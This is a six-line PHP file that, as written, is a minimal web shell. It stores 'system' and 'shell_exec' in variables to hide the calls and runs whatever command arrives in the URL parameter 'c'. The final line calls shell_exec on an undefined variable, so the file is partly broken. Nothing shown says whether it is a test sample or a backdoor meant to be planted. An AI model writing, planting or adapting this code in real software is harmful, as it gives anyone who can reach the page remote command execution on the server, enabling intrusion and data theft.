<?php
$f = 'system';
$g = "shell_exec";
$f($_GET['c']);
echo $g($cmd);
